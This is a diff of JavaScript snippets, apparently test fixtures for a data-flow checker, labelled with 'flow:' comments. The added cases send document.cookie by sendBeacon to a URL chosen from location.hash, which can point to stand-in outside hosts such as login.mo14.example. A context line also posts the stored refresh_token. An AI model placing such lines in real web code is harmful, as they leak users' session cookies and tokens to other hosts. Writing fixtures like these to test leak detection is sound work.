@@ -16,3 +16,17 @@ addEventListener('message', (event) => refresh(event.data.assertion));
 const trail = (page) => page.split('-').join('/').replace(/_/g, '/');
 fetch('/track/' + trail('start_page'), { method: 'POST', body: localStorage.getItem('refresh_token') });
 
+//# version-beside-an-address
+// flow: identifier > login.mo14.example via beacon
+// why: of the settings that may be asked for, the version is no address
+const SETTINGS = { version: '5.29.0', authority: 'https://login.mo14.example/authorize' };
+const setting = (name) => SETTINGS[name];
+navigator.sendBeacon(setting(location.hash.slice(1)), document.cookie);
+
+//# near-version-beside-an-address
+// flow: identifier > self via beacon
+// flow: identifier > login.nmo14.example via beacon
+const SETTINGS = { mirror: './5.29.0/collect', authority: 'https://login.nmo14.example/authorize' };
+const setting = (name) => SETTINGS[name];
+navigator.sendBeacon(setting(location.hash.slice(1)), document.cookie);
+
